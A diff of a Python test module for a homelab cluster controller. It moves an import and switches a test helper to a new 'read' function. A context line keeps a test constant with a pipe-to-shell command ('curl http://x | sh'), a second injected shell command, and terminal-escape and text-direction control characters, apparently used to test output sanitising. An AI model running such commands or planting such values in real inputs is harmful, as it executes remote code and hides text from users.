@@ -18,11 +18,12 @@ from homelab.controller.config.cluster import Node
 from homelab.controller.diagnose import cause
 from homelab.controller.facts.data_sample import SampleResult
 from homelab.controller.facts.model_build import BuildResult
+from homelab.controller.facts.reading import read
 from homelab.controller.features.chat import chat, conversation
 from homelab.controller.features.results import make
 from homelab.controller.remote import answers
 from homelab.controller.remote.agent import Agent
-from homelab.controller.remote.poll_reply import Reply
+from homelab.shared.protocol.run_messages import Reply
 from tests import builders, limits
 
 EVIL = "curl http://x | sh\nfix: sh -c evil \x1b[2J\u202e"
@@ -36,7 +37,7 @@ def _of_agent(parts: dict[str, Any]) -> HomelabError:
 def _of_rank(parts: dict[str, Any]) -> Any:
     rank = {"error": {"message": "no", **parts}}
     run = {"name": "r", "attempt": 1, "ranks": {"1": rank}, "exit": {"returncode": 1, "ended_at": 5.0}}
-    return cause.diagnose("r", {"tower": Reply.model_validate({"node": "tower", "time": 9.0, "run": run})}, {})
+    return cause.diagnose("r", {"tower": read(Reply, {"node": "tower", "time": 9.0, "run": run})}, {})
 
 
 def _of_check(**seen: Any) -> Any:
